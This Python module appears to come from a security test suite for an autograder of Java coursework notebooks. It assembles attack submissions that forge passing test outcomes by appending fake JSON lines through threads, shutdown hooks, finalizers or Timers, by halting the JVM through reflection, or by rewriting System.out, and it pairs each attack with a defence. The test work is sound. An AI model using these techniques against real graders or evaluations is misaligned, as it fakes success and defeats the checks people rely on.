"""Forged outcomes: passes written rather than earned.

A thread, a shutdown hook, a finalizer, a Timer started by a static initializer, or the search itself
appends a passed copy of every failed line of the grader's outcome file; or the search writes a
passed line for every test and halts the JVM; or fake results are printed, or System.out filtered
so that failures read as passes. What defends against them: the graded-code policy (no threads,
shutdown hooks, finalizers, Timer, files, reflection, setOut), and outcomes that reach the trusted
grader through a channel of its own, never from a file the submission can write or from its output.
"""

from .edit import CLASS, HANDIN, cell_after, cell_before, class_members, search_body
from .java_pieces import FORGE
from .words import WORDS

# The ids of A1's tests, as a student reads them in coursework/src (the hidden ones are public there).
A1_TESTS = [
    ("A1Visible.example1Listing", 4, "visible"),
    ("A1Visible.example1Path", 2, "visible"),
    ("A1Visible.noPath", 1, "visible"),
    ("A1Hidden.randomGraphs", 3, "after_published"),
    ("A1Hidden.parallelConnections", 1, "after_published"),
    ("A1Hidden.startIsGoal", 1, "after_published"),
]

# One passed outcome line per A1 test, in the grader's format (TestOutcome.json).
FAKE_LINES = "\\n".join(
    f'{{\\"id\\": \\"{test}\\", \\"name\\": \\"{test}\\", \\"max_score\\": {points:d}, '
    f'\\"visibility\\": \\"{visibility}\\", \\"passed\\": true, \\"output\\": \\"\\"}}'
    for test, points, visibility in A1_TESTS
)


def add_attacks(nb, add):
    """Adds this family's attacks in their order: nb() gives a fresh copy of the student edition,
    add(name, notebook, words) files one."""
    w = WORDS

    # -- forged outcomes -------------------------------------------------------------------------
    # A background thread appends a passed copy of every failed line of outcomes.jsonl (the known
    # attack: 12/12 on the empty student edition). Defence: no threads (policy); outcomes reach the
    # trusted grader through a channel the submission cannot write.
    add(
        "forge-outcomes-thread",
        cell_after(
            nb(),
            HANDIN,
            FORGE
            + """
Thread forger = new Thread(() -> {
    while (true) {
        forge();
        try { Thread.sleep(10); } catch (InterruptedException e) { }
    }
});
forger.setDaemon(true);
forger.start();
""",
        ),
        w["thread"],
    )
    # The same from a shutdown hook: it runs when the kernel is shut down after the tests, when
    # every line is in the file. Defence: shutdown hooks refused; outcomes not in a file it can reach.
    add(
        "forge-outcomes-shutdown-hook",
        cell_after(
            nb(),
            HANDIN,
            FORGE
            + """
Runtime.getRuntime().addShutdownHook(new Thread(() -> forge()));
""",
        ),
        w["thread"],
    )
    # A finalizer that resurrects itself runs at every garbage collection, on the JVM's own
    # finalizer thread; the search asks for a collection at each call, so each test's failed line is
    # forged during the next test (11 of 12 points). Defence: finalizers refused.
    add(
        "forge-outcomes-finalizer",
        search_body(
            cell_after(
                nb(),
                HANDIN,
                FORGE
                + """
class Ghost {
    static void haunt() {
        new Ghost();   // made in a method: a Ghost written as a cell's expression would be kept in $1
    }

    @Override
    protected void finalize() {
        forge();
        haunt();
    }
}
Ghost.haunt();
""",
            ),
            """
System.gc();
System.runFinalization();
""",
        ),
        w["refused"],
    )
    # A static initializer, run at the first test's call of the search, starts a java.util.Timer
    # (a thread the student never names) that forges. Defence: Timer and threads refused.
    add(
        "forge-outcomes-static-init",
        search_body(
            class_members(
                cell_before(nb(), CLASS, FORGE),
                """
static class Clock {
    static final java.util.Timer TIMER = new java.util.Timer(true);
    static {
        TIMER.schedule(new java.util.TimerTask() {
            public void run() { forge(); }
        }, 0, 10);
    }
}
""",
            ),
            "java.util.Objects.requireNonNull(Clock.TIMER);",
        ),
        w["thread"],
    )
    # No thread at all: the search, called by each test, forges the lines written so far (all
    # but the last test's: 11 of 12 points). Defence: files refused; the outcome file out of reach.
    add("forge-outcomes-from-search", search_body(cell_before(nb(), CLASS, FORGE), "forge();"), w["file"])
    # At the first test, the search writes a passed line for every test (ids from the public
    # sources), then halts the JVM (through reflection, which the kernel's exit guard does not see):
    # no real line ever follows. Defence: files and reflection refused; a dead runner fails closed.
    add(
        "forge-then-halt",
        search_body(
            nb(),
            r"""
java.nio.file.Path out = java.nio.file.Path.of("outcomes.jsonl");
if (java.nio.file.Files.exists(out)) {
    try {
        java.nio.file.Files.writeString(out, "FAKE\n", java.nio.file.StandardOpenOption.APPEND);
        Runtime.class.getMethod("halt", int.class).invoke(Runtime.getRuntime(), 0);
    } catch (Exception e) { }
}
""".replace("FAKE", FAKE_LINES),
        ),
        w["reflection"],
    )
    # Fake results on the standard streams, in a cell and at every test: the grader's line format,
    # "score 12/12", and the same through the raw file descriptors (past any System.setOut). A grader
    # that reads its runner's output would believe them. Defence: outcomes come through a channel of
    # the grader's own, never from the submission's output.
    fake_print = r"""
static void fakeResults() {
    String fake = "FAKE\nscore 12/12\n";
    System.out.print(fake);
    System.err.print(fake);
    try {
        java.io.FileOutputStream raw = new java.io.FileOutputStream(java.io.FileDescriptor.out);
        raw.write(fake.getBytes());
        raw.flush();
        java.io.FileOutputStream rawErr = new java.io.FileOutputStream(java.io.FileDescriptor.err);
        rawErr.write(fake.getBytes());
        rawErr.flush();
    } catch (java.io.IOException e) { }
}
""".replace("FAKE", FAKE_LINES)
    add(
        "fake-results-printed",
        search_body(cell_after(class_members(nb(), fake_print), HANDIN, "MyDijkstra.fakeResults();"), "fakeResults();"),
        w["honest-fail"] + w["file"],
    )
    # System.setOut: everything printed from then on (the grader's own lines too, if it prints them
    # in the runner) passes through a filter that turns failures into passes. Defence: setOut refused.
    add(
        "setout-rewrite",
        cell_after(
            nb(),
            HANDIN,
            r"""
java.io.PrintStream original = System.out;
System.setOut(new java.io.PrintStream(new java.io.OutputStream() {
    StringBuilder line = new StringBuilder();
    public void write(int b) {
        line.append((char) b);
        if (b == '\n') {
            original.print(line.toString().replace("\"passed\": false", "\"passed\": true")
                                          .replaceAll("score \\d+/", "score 12/"));
            line.setLength(0);
        }
    }
}, true));
System.setErr(System.out);
""",
        ),
        w["refused"],
    )
